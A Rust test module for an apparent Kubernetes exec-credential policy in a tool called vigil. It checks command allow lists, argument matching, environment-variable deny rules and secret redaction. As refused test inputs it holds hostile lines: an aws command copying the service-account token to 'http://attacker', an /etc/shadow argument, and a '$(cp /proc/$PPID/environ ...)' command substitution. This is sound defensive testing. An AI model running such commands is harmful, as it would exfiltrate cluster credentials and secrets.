        // The link is listed, the file it points to is not.
        let link_only = policy(&format!("{} token\n", link.display()), &[]);
        let refused = link_only.admit(&spec(path_text(&link)), None).unwrap_err();
        assert!(
            refused.contains("no entry of VIGIL_EXEC_ALLOW_FILE names")
                && refused.contains("reached through"),
            "{refused}"
        );

        let empty = ExecPolicy::default();
        let refused = empty.admit(&spec(path_text(&tool)), None).unwrap_err();
        assert!(
            refused.contains("VIGIL_EXEC_ALLOW_FILE allows no command"),
            "{refused}"
        );
    }

    #[test]
    fn the_arguments_must_fit_an_entry_of_the_program() {
        let dir = tempfile::tempdir().unwrap();
        let dir = std::fs::canonicalize(dir.path()).unwrap();
        let aws = executable(&dir, "aws");
        let other = executable(&dir, "other");
        let aws_text = path_text(&aws);
        let allow = format!(
            "# EKS, two shapes\n\
             {aws_text} eks get-token --cluster-name <name> --region <name> --output json\n\
             {aws_text} eks get-token --region <name> --cluster-name <name> --role-arn arn:aws:iam::1:role/vigil\n\
             {} get-token\n",
            other.display()
        );
        let policy = policy(&allow, &[]);
        let check = |program: &Path, args: &str| {
            let mut spec = spec(path_text(program));
            spec.args = args.split_whitespace().map(str::to_owned).collect();
            policy.admit(&spec, None)
        };
        for (args, line) in [
            (
                "--region eu-west-1 eks get-token --cluster-name prod --output json",
                2,
            ),
            ("eks get-token --cluster-name prod", 2),
            (
                "eks get-token --cluster-name prod --role-arn arn:aws:iam::1:role/vigil",
                3,
            ),
        ] {
            let admitted = check(&aws, args).unwrap_or_else(|why| panic!("{args}: {why}"));
            assert_eq!(admitted.entry_line, line, "{args}");
        }
        for (program, args, expected) in [
            // An allowed program told to copy a token to another endpoint.
            (
                &aws,
                "s3 cp /var/run/secrets/kubernetes.io/serviceaccount/token s3://b/k --endpoint-url http://attacker --no-sign-request",
                "argument 1 is not `eks`",
            ),
            (
                &aws,
                "eks get-token --cluster-name prod --endpoint-url http://attacker",
                "(--endpoint-url) is not a flag",
            ),
            (
                &aws,
                "eks get-token --cluster-name prod --profile x",
                "(--profile) is not a flag",
            ),
            (
                &aws,
                "eks get-token --cluster-name prod --debug",
                "(--debug) is not a flag",
            ),
            (
                &aws,
                "eks get-token --cluster-name /etc/shadow",
                "does not fit <name>",
            ),
            (
                &aws,
                "eks get-token --role-arn arn:aws:iam::2:role/admin",
                "does not fit `arn:aws:iam::1:role/vigil`",
            ),
            (&other, "get-token --x", "(--x) is not a flag that line 4"),
        ] {
            let refused = check(program, args).expect_err(args);
            assert!(
                refused.contains(expected) && refused.contains("may not run with these arguments"),
                "{args}: {refused}"
            );
            assert!(
                !refused.contains("attacker") && !refused.contains("shadow"),
                "{refused}"
            );
        }
        // Both entries are named; the refusal is the one that got furthest.
        let refused = check(&aws, "eks get-token --cluster-name prod --output text").unwrap_err();
        assert!(
            refused.contains("(--output) does not fit `json`") && refused.contains("lines 2, 3"),
            "{refused}"
        );
        let refused = check(&other, "get-token extra").unwrap_err();
        assert!(refused.contains("line 4)"), "{refused}");
    }

    #[test]
    fn commands_are_found_as_kubectl_finds_them() {
        let dir = tempfile::tempdir().unwrap();
        let dir = std::fs::canonicalize(dir.path()).unwrap();
        std::fs::create_dir(dir.join("bin")).unwrap();
        let tool = executable(&dir.join("bin"), "get-token");
        let mut policy = policy(&format!("{} token", tool.display()), &[]);
        policy.from_secrets = true;

        // Relative with a slash: against the kubeconfig's directory.
        let mut relative = spec("bin/get-token");
        relative.kubeconfig_dir = Some(dir.clone());
        assert_eq!(policy.admit(&relative, None).unwrap().program, tool);
        // A bare name: in PATH.
        let path = std::env::join_paths([dir.join("nothing"), dir.join("bin")]).unwrap();
        assert_eq!(
            policy
                .admit(&spec("get-token"), Some(&path))
                .unwrap()
                .program,
            tool
        );
        let mut hinted = spec("other-tool");
        hinted.install_hint = Some("install other-tool\nfrom somewhere".to_owned());
        let refused = policy.admit(&hinted, Some(&path)).unwrap_err();
        assert!(
            refused.contains("not found in PATH (install other-tool from somewhere)"),
            "{refused}"
        );
        // A Secret's kubeconfig has no directory.
        let mut secret = spec("bin/get-token");
        secret.kubeconfig_dir = None;
        assert!(
            policy
                .admit(&secret, None)
                .unwrap_err()
                .contains("relative")
        );
    }

    #[test]
    fn versions_modes_env_and_secrets_are_checked_before_anything_runs() {
        let policy = policy("/bin/true token", &[]);
        let refused = |change: &dyn Fn(&mut ExecSpec)| {
            let mut spec = spec("/bin/true");
            change(&mut spec);
            policy.admit(&spec, None).unwrap_err()
        };
        assert!(refused(&|s| s.api_version = Some(API_V1ALPHA1.to_owned())).contains("removed"));
        assert!(refused(&|s| s.api_version = Some("x/v9".to_owned())).contains("apiVersion"));
        assert!(
            refused(&|s| s.interactive_mode = Some("Always".to_owned()))
                .contains("interactiveMode Always")
        );
        assert!(refused(&|s| s.interactive_mode = None).contains("must set interactiveMode"));
        assert!(
            refused(&|s| s.env.push(("LD_PRELOAD".to_owned(), "/x.so".to_owned())))
                .contains("LD_PRELOAD")
        );
        assert!(
            refused(&|s| s.env.push(("PATH".to_owned(), "/x".to_owned()))).contains("sets PATH")
        );
        assert!(refused(&|s| s.kubeconfig_dir = None).contains("VIGIL_EXEC_FROM_SECRETS"));
        assert!(
            refused(&|s| s.env.push(("TMPDIR".to_owned(), "/x".to_owned()))).contains("TMPDIR")
        );
        // A directory the kubelet mounted from a Secret (its files are links through
        // `..data`) is a Secret: whoever writes the Secret writes the kubeconfig.
        let volume = tempfile::tempdir().unwrap();
        std::fs::create_dir(volume.path().join("..2026_12_07_00_00_00.1")).unwrap();
        std::os::unix::fs::symlink("..2026_12_07_00_00_00.1", volume.path().join("..data"))
            .unwrap();
        let mounted = refused(&|s| s.kubeconfig_dir = Some(volume.path().to_owned()));
        assert!(
            mounted.contains("..data") && mounted.contains("VIGIL_EXEC_FROM_SECRETS"),
            "{mounted}"
        );
        let program = std::fs::canonicalize("/bin/true").unwrap();
        let program = program.to_str().unwrap();
        let mut from_secrets = self::policy(&format!("{program} token"), &[]);
        from_secrets.from_secrets = true;
        let mut in_volume = spec(program);
        in_volume.kubeconfig_dir = Some(volume.path().to_owned());
        let admitted = from_secrets.admit(&in_volume, None);
        assert!(admitted.is_ok(), "{admitted:?}");
        // v1beta1 may leave interactiveMode out.
        let mut beta = spec("/bin/true");
        beta.api_version = Some(API_V1BETA1.to_owned());
        beta.interactive_mode = None;
        let fine = self::policy(
            &format!(
                "{} token",
                std::fs::canonicalize("/bin/true").unwrap().display()
            ),
            &[],
        );
        assert_eq!(
            fine.admit(&beta, None).unwrap().version,
            ExecVersion::V1Beta1
        );
    }

    #[test]
    fn a_kubeconfig_sets_only_the_variables_the_operator_allows() {
        let dir = tempfile::tempdir().unwrap();
        let dir = std::fs::canonicalize(dir.path()).unwrap();
        let tool = executable(&dir, "tool");
        let allow = format!("{} token", tool.display());
        let mut allowing = policy(&allow, &["AWS_PROFILE", "EXEC_KIT_MODE"]);
        allowing.pass_env = vec!["AWS_ROLE_ARN".to_owned()];
        let check = |policy: &ExecPolicy, name: &str| {
            let mut spec = spec(path_text(&tool));
            spec.env.push((
                name.to_owned(),
                "$(cp /proc/$PPID/environ /tmp/stolen)".to_owned(),
            ));
            policy.admit(&spec, None).map(|_| ())
        };
        // Deny by default: interpreters' and tools' variables among them.
        let nothing = policy(&allow, &[]);
        for name in [
            "BASH_ENV",
            "ENV",
            "NODE_OPTIONS",
            "PYTHONPATH",
            "PYTHONSTARTUP",
            "PERL5OPT",
            "PERL5DB",
            "GCONV_PATH",
            "AWS_CONFIG_FILE",
            "AWS_ENDPOINT_URL",
            "AWS_WEB_IDENTITY_TOKEN_FILE",
        ] {
            for policy in [&nothing, &allowing] {
                let refused = check(policy, name).expect_err(name);
                assert!(
                    refused.contains(&format!(
                        "sets {name}, which VIGIL_EXEC_KUBECONFIG_ENV does not allow"
                    )),
                    "{name}: {refused}"
                );
                assert!(
                    !refused.contains("stolen"),
                    "values are never quoted: {refused}"
                );
            }
        }
        assert!(
            check(&nothing, "AWS_PROFILE")
                .unwrap_err()
                .contains("(none is listed)")
        );
        check(&allowing, "AWS_PROFILE").unwrap();
        check(&allowing, "EXEC_KIT_MODE").unwrap();
        // The operator's pass-through is never overridden.
        let refused = check(&allowing, "AWS_ROLE_ARN").unwrap_err();
        assert!(refused.contains("(VIGIL_EXEC_ENV)"), "{refused}");
        // Loader variables and vigil's own stay refused, whatever is listed.
        for name in ["LD_PRELOAD", "PATH", "HOME", EXEC_INFO_VARIABLE] {
            assert!(
                check(&allowing, name)
                    .unwrap_err()
                    .contains("vigil refuses"),
                "{name}"
            );
        }
        assert!(
            check(&allowing, "A-B")
                .unwrap_err()
                .contains("not an environment variable name")
        );
    }

    #[test]
    fn vigil_settings_and_loader_variables_are_never_passed_through_nor_set() {
        for setting in ["VIGIL_EXEC_ENV", "VIGIL_EXEC_KUBECONFIG_ENV"] {
            for name in [
                "DATABASE_URL",
                "VIGIL_API_TOKENS_FILE",
                "LD_PRELOAD",
                "PATH",
                "HOME",
                "KUBERNETES_EXEC_INFO",
                "A B",
            ] {
                let names = vec![name.to_owned()];
                let (pass, kubeconfig) = if setting == "VIGIL_EXEC_ENV" {
                    (names, Vec::new())
                } else {
                    (Vec::new(), names)
                };
                let error =
                    ExecPolicy::new(AllowList::default(), pass, kubeconfig, false).unwrap_err();
                assert_eq!(error.variable, setting, "{name}");
            }
        }
        // A name in both lists: the kubeconfig would override the operator's value.
        let error = ExecPolicy::new(
            AllowList::default(),
            vec!["AWS_REGION".to_owned()],
            vec![" AWS_REGION ".to_owned()],
            false,
        )
        .unwrap_err();
        assert_eq!(error.variable, "VIGIL_EXEC_KUBECONFIG_ENV");
        assert!(error.reason.contains("also in VIGIL_EXEC_ENV"), "{error}");
    }

    #[test]
    fn the_environment_is_explicit() {
        let policy = ExecPolicy::new(
            AllowList::default(),
            vec!["AWS_ROLE_ARN".to_owned(), "UNSET".to_owned()],
            vec!["AWS_PROFILE".to_owned()],
            false,
        )
        .unwrap();
        let mut spec = spec("/bin/true");
        spec.env.push(("AWS_PROFILE".to_owned(), "prod".to_owned()));
        // Never admitted, and never in the environment either.
        spec.env.push(("BASH_ENV".to_owned(), "x".to_owned()));
        spec.env
            .push(("AWS_ROLE_ARN".to_owned(), "other".to_owned()));
        let own = OwnDirs {
            home: Path::new("/run/vigil-exec/home"),
            temp: Path::new("/run/vigil-exec/tmp"),
        };
        let env = policy.environment(&spec, "{}", own, |name| match name {
            "HOME" => Some("/home/vigil".into()),
            "AWS_ROLE_ARN" => Some("arn".into()),
            "SECRET" => Some("no".into()),
            _ => None,
        });
        let names: Vec<_> = env.iter().map(|(name, _)| name.to_str().unwrap()).collect();
        assert_eq!(
            names,
            [
                "PATH",
                "HOME",
                "TMPDIR",
                "AWS_ROLE_ARN",
                "AWS_PROFILE",
                EXEC_INFO_VARIABLE
            ]
        );
        assert_eq!(env[0].1, CHILD_PATH);
        // The commands' own home, never vigil's.
        assert_eq!(env[1].1, "/run/vigil-exec/home");
        assert_eq!(env[2].1, "/run/vigil-exec/tmp");
        assert_eq!(env[3].1, "arn");
    }

    #[test]
    fn the_request_carries_the_cluster_only_when_asked() {
        let cluster = ClusterInfo {
            server: "https://127.0.0.1:6443".to_owned(),
            certificate_authority_data: Some(b"PEM".to_vec()),
            ..ClusterInfo::default()
        };
        let mut spec = spec("/bin/true");
        spec.cluster_config = Some(r#"{"audience":"x"}"#.to_owned());
        let plain: serde_json::Value =
            serde_json::from_str(&exec_info(&spec, ExecVersion::V1, Some(&cluster))).unwrap();
        assert_eq!(plain["spec"], serde_json::json!({"interactive": false}));
        assert_eq!(plain["apiVersion"], API_V1);
        spec.provide_cluster_info = true;
        let full: serde_json::Value =
            serde_json::from_str(&exec_info(&spec, ExecVersion::V1Beta1, Some(&cluster))).unwrap();
        assert_eq!(full["apiVersion"], API_V1BETA1);
        assert_eq!(full["spec"]["cluster"]["server"], "https://127.0.0.1:6443");
        assert_eq!(
            full["spec"]["cluster"]["certificate-authority-data"],
            "UEVN"
        );
        assert_eq!(full["spec"]["cluster"]["config"]["audience"], "x");
    }

    #[test]
    fn outputs_are_read_strictly() {
        let ok = parse_output(
            br#"{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"t","expirationTimestamp":"2030-01-01T00:00:00+01:00"}}"#,
            ExecVersion::V1,
        )
        .unwrap();
        assert_eq!(ok.token.as_deref(), Some("t"));
        assert_eq!(ok.expires_at, Some(1_893_452_400));
        let certificate = parse_output(
            br#"{"apiVersion":"client.authentication.k8s.io/v1beta1","kind":"ExecCredential","status":{"clientCertificateData":"C","clientKeyData":"K"}}"#,
            ExecVersion::V1Beta1,
        )
        .unwrap();
        assert_eq!(certificate.client_key.as_deref(), Some(&b"K"[..]));
        for (output, expected) in [
            (&b"secret-token-not-json"[..], "not valid JSON"),
            (br#"{"apiVersion":"client.authentication.k8s.io/v1beta1","kind":"ExecCredential","status":{"token":"t"}}"#, "answered apiVersion"),
            (br#"{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential"}"#, "no status"),
            (br#"{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"clientCertificateData":"C"}}"#, "no clientKeyData"),
            (br#"{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{}}"#, "neither"),
        ] {
            let error = parse_output(output, ExecVersion::V1).unwrap_err();
            assert!(error.contains(expected), "{error}");
            assert!(!error.contains("secret-token"), "{error}");
        }
    }

    #[test]
    fn what_looks_like_a_secret_in_stderr_is_redacted() {
        for (line, shown) in [
            (
                "error: token=abc refused",
                "error: token=[redacted] refused",
            ),
            ("password: hunter2", "password: [redacted]"),
            ("token = abc", "token = [redacted]"),
            ("password:hunter2 wrong", "password:[redacted] wrong"),
            (
                "Authorization: Bearer abc.def",
                "Authorization: Bearer [redacted]",
            ),
            (
                "GET https://sts.example.com/x?Action=Get&X-Amz-Signature=f00 failed",
                "GET https://sts.example.com/x?[redacted] failed",
            ),
            (
                "bad jwt eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl1",
                "bad jwt [redacted]",
            ),
            (
                "key AKIAIOSFODNN7EXAMPLE1 (denied)",
                "key [redacted] (denied)",
            ),
            (
                "aws: error: ExpiredToken when calling GetCallerIdentity",
                "aws: error: ExpiredToken when calling GetCallerIdentity",
            ),
            (
                "/usr/local/aws-cli/v2/2.22.0/dist/aws: not found",
                "/usr/local/aws-cli/v2/2.22.0/dist/aws: not found",
            ),
            ("account 123456789012 denied", "account 123456789012 denied"),
        ] {
            assert_eq!(redact(line), shown, "{line}");
        }
        assert_eq!(
            first_line(b"error: AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCY\n"),
            "error: AWS_SECRET_ACCESS_KEY=[redacted]"
        );
    }

    #[test]
    fn stderr_is_quoted_on_one_short_line() {
        assert_eq!(
            first_line(b"\n  error: no\x1b[31m profile\nmore"),
            "error: no [31m profile"
        );
        assert_eq!(
            first_line(&[b'x'; 300]).chars().count(),
            MAX_QUOTED_CHARS + 1
        );
    }
}
